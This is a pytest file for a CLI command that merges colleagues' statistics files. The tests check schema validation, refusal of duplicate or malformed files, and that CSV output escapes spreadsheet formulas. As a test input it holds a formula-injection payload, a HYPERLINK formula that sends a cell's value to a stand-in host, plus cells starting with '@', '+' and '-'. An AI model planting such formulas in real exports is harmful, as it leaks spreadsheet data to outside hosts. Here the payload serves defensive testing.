"""`stats merge` reads colleagues' files: each is checked against the stats
schema before anything is added up (issue 12), and every CSV cell is guarded
against spreadsheet formulas."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from loket_testkit import error_line, invoke

from loketcli.render.exports import export_csv, stats_csv

GOLDEN = Path(__file__).resolve().parents[1] / "golden" / "reports_stats_2026-11.json"
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"klik")'


def stats() -> dict[str, Any]:
    value = json.loads(GOLDEN.read_text(encoding="utf-8"))
    assert isinstance(value, dict)
    return value


def _set(value: dict[str, Any], path: tuple[str, ...], new: object) -> None:
    for key in path[:-1]:
        value = value[key]
    value[path[-1]] = new


def test_a_valid_file_merges(tmp_path: Path) -> None:
    good, colleague = tmp_path / "good.json", tmp_path / "colleague.json"
    good.write_text(json.dumps(stats()))
    colleague.write_text(json.dumps(stats()))
    result = invoke(["stats", "merge", str(good), str(colleague), "--format", "json"])
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["visitors_helped"] == 2 * stats()["visitors_helped"]


def test_the_same_file_twice_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    good = tmp_path / "good.json"
    good.write_text(json.dumps(stats()))
    monkeypatch.chdir(tmp_path)
    # Also when spelled differently: the resolved path is what counts.
    for args in ([str(good), str(good)], [str(good), "./good.json"], ["good.json", str(tmp_path / "." / "good.json")]):
        result = invoke(["stats", "merge", *args, "--format", "json"])
        assert (result.exit_code, result.stdout, result.stderr) == (
            2, "", error_line("error.merge_same_file", path=str(Path(args[1])))), args
    result = invoke(["report", str(good), str(good)])
    assert (result.exit_code, result.stderr) == (2, error_line("error.merge_same_file", path=str(good)))


@pytest.mark.parametrize(("content", "key"), [
    ("{}", "error.merge_schema_file"),
    ('{"schema_version": 99}', "error.merge_schema_file"),
])
def test_a_file_of_another_schema_is_named(tmp_path: Path, content: str, key: str) -> None:
    good, other = tmp_path / "good.json", tmp_path / "leeg.json"
    good.write_text(json.dumps(stats()))
    other.write_text(content)
    result = invoke(["stats", "merge", str(good), str(other)])
    assert (result.exit_code, result.stdout, result.stderr) == (
        2, "", error_line(key, path=str(other), supported=1))


def test_a_suppressed_file_is_named(tmp_path: Path) -> None:
    suppressed = tmp_path / "min.json"
    suppressed.write_text(json.dumps({**stats(), "min_count": 2}))
    result = invoke(["stats", "merge", str(suppressed)])
    assert (result.exit_code, result.stderr) == (2, error_line("error.merge_suppressed_file", path=str(suppressed)))


@pytest.mark.parametrize(("path", "bad", "where"), [
    (("visitors_helped",), FORMULA, "visitors_helped"),
    (("visitors_helped",), -3, "visitors_helped"),
    (("visitors_helped",), True, "visitors_helped"),
    (("visitors_helped",), 2.5, "visitors_helped"),
    (("calls", "per_agency", "uwv", "calls"), FORMULA, "calls.per_agency.uwv.calls"),
    (("calls", "per_agency", FORMULA), {"calls": 1, "driegesprek": 0, "driegesprek_share": 0.0}, "calls.per_agency"),
    (("channels", "balie"), "1", "channels.balie"),
    (("contacts", "minutes_histogram", "-5"), 1, "contacts.minutes_histogram"),
    (("contacts", "minutes_median"), float("nan"), "contacts.minutes_median"),
    (("calls", "driegesprek_share"), 1.5, "calls.driegesprek_share"),
    (("period", "from"), "2026-13-01", "period.from"),
    (("extra",), 1, "$"),
    (("cases",), [1, 2], "cases"),
    (("satisfaction", "6"), 1, "satisfaction"),
], ids=lambda v: ".".join(v) if isinstance(v, tuple) else None)
def test_a_file_that_does_not_fit_the_schema_is_refused(tmp_path: Path, path: tuple[str, ...], bad: object,
                                                       where: str) -> None:
    good, broken = tmp_path / "good.json", tmp_path / "collega.json"
    good.write_text(json.dumps(stats()))
    value = copy.deepcopy(stats())
    _set(value, path, bad)
    broken.write_text(json.dumps(value))
    result = invoke(["stats", "merge", str(good), str(broken), "--format", "csv"])
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == error_line("error.merge_invalid", path=str(broken), where=where)
    assert "HYPERLINK" not in result.stderr


def test_a_missing_section_is_refused(tmp_path: Path) -> None:
    value = stats()
    del value["followups"]["overdue"]
    broken = tmp_path / "collega.json"
    broken.write_text(json.dumps(value))
    result = invoke(["stats", "merge", str(broken)])
    assert (result.exit_code, result.stderr) == (2, error_line("error.merge_invalid", path=str(broken),
                                                                where="followups"))


def test_every_csv_writer_guards_against_formulas() -> None:
    # The stats CSV too: its metric names and values come from merged files.
    written = stats_csv({"schema_version": 1, FORMULA: "+31", "n": "-1", "at": "@SUM(1)", "ok": 3})
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["metric", "value"], ["schema_version", "1"], ["'" + FORMULA, "'+31"], ["n", "'-1"],
                    ["at", "'@SUM(1)"], ["ok", "3"]]
    assert export_csv([], names=True, codes=True).decode("utf-8-sig") == (
        "time;case;kind;agency;handover;outcome;satisfaction;minutes;open_followups;next_due;visitor;text\r\n")


def test_a_file_from_before_the_added_fields_still_merges(tmp_path: Path) -> None:
    """docs/manual.md promises it: fields added to schema 1 later may be absent."""
    from loketcli.services.stats_schema import ADDED_LATER, problem

    whole = json.loads((Path(__file__).parents[1] / "golden" / "reports_stats_2026-11.json").read_text("utf-8"))
    assert problem(whole) is None
    older = {k: v for k, v in whole.items() if k not in ADDED_LATER}
    older["followups"] = {k: v for k, v in whole["followups"].items() if k != "cancelled"}
    assert problem(older) is None
    del older["visitors_helped"]
    assert problem(older) == "$"
